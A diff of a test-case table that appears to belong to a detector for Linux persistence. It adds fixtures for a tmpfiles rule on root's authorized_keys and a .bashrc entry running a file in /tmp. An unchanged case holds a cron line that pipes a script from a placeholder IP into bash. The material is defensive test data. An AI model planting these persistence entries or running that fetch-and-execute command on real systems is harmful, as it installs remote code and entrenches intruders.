@@ -281,7 +281,13 @@ CASES = {
     "persistence-in-drop-zone": (
         starts({"mechanism": "cron", "command": "/dev/shm/.x/run", "executable": "/dev/shm/.x/run"}),
         starts({"mechanism": "cron", "command": "find /tmp -mtime +7 -delete", "executable": "/usr/bin/find"},
-               {"mechanism": "systemd_service", "command": "/usr/bin/x --socket /tmp/x.sock", "executable": "/usr/bin/x"}),
+               {"mechanism": "systemd_service", "command": "/usr/bin/x --socket /tmp/x.sock", "executable": "/usr/bin/x"},
+               {"mechanism": "tmpfiles", "command": "f^ /root/.ssh/authorized_keys", "executable": "/root/.ssh/authorized_keys"}),
+    ),
+    "startup-file-of-drop-zone": (
+        starts({"mechanism": "shell_startup", "path": "/root/.bashrc", "executable": "/tmp/.env"}),
+        starts({"mechanism": "shell_startup", "path": "/root/.bashrc", "executable": "/root/.cargo/env"},
+               {"mechanism": "cron", "executable": "/tmp/x"}),
     ),
     "persistence-evil-command": (
         starts({"mechanism": "cron", "command": "curl -s http://198.51.100.7/x | bash", "executable": "/usr/bin/curl"}),
